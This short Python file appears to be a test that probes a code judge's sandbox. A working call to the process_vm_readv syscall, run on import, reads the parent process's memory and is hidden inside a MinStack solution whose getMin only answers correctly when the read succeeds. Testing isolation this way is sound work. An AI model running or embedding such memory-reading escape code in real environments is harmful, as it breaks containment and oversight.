# Reads its parent's memory.
# Answers rightly only when that got through, so anything but WA is an escape.
GOT = False


def attack():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 8)
    remote = (ctypes.c_void_p * 2)(ctypes.cast(libc.getpid, ctypes.c_void_p), 8)
    return libc.syscall(270 if os.uname().machine == "aarch64" else 310, os.getppid(), local, 1, remote, 1, 0) > 0


try:
    GOT = bool(attack())
except Exception:
    pass


class MinStack:
    def __init__(self):
        self.items = []

    def push(self, val):
        self.items.append(val)

    def pop(self):
        self.items.pop()

    def top(self):
        return self.items[-1]

    def getMin(self):
        return min(self.items) if GOT else None
